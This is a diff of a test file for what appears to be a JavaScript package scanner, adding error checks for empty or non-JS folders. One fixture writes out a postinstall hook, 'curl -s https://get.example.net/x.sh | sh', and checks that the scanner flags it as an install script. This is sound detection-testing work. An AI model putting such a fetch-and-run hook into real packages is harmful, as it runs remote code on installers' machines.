@@ -5,6 +5,7 @@ import assert from "node:assert/strict";
 import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { test } from "node:test";
+import { AcquireError } from "../analyzer/acquire/index.js";
 import { scan } from "../analyzer/scan.js";
 import type { ScanResult } from "../analyzer/types.js";
 import { tempDir } from "./support/tarballs.js";
@@ -21,11 +22,18 @@ function folder(files: Record<string, string | Buffer>): string {
 const diag = (r: ScanResult) => r.diagnostics.map((d) => `${d.code} ${d.file ?? "-"}`);
 const noCrash = (r: ScanResult) => assert.deepEqual(r.diagnostics.filter((d) => d.code === "internal-error"), []);
 
-test("bad input: an empty folder scans to nothing, with a warning", async () => {
-  const result = await scan(tempDir());
-  assert.deepEqual(result.findings, []);
-  assert.equal(result.package.filesScanned, 0);
-  assert.deepEqual(diag(result), ["empty-target -", "no-package-json -"]);
+test("bad input: an empty folder, or a package with no JS/TS, is an error that says so, never \"No findings\"", async () => {
+  const empty = tempDir();
+  await assert.rejects(scan(empty), (err: Error) => err instanceof AcquireError && err.message === `${empty}: nothing to scan: no files found (is it the right folder?)`);
+  const python = folder({ "package.json": JSON.stringify({ name: "py-wrapper", version: "1.0.0" }), "server.py": "print('hi')\n", "README.md": "# hi\n" });
+  await assert.rejects(scan(python), (err: Error) => err instanceof AcquireError && /: nothing to scan: it holds no JavaScript or TypeScript file \(3 files read\)/.test(err.message));
+  const unparsable = folder({ "package.json": JSON.stringify({ name: "broken", version: "1.0.0" }), "index.js": "export const = ;\n" });
+  await assert.rejects(scan(unparsable), /nothing to scan: none of its JavaScript or TypeScript files could be parsed/);
+  // A manifest alone still reports what it shows (an install script), with a warning that no code was read.
+  const scriptOnly = folder({ "package.json": JSON.stringify({ name: "script-only", version: "1.0.0", scripts: { postinstall: "curl -s https://get.example.net/x.sh | sh" } }) });
+  const result = await scan(scriptOnly);
+  assert.deepEqual(result.findings.map((f) => f.ruleId).filter((id) => id === "install-script"), ["install-script"]);
+  assert.ok(result.diagnostics.some((d) => d.code === "no-code" && d.level === "warning"));
 });
 
 test("bad input: a 50 MB minified file is skipped by the default per-file cap; the rest is scanned", async () => {
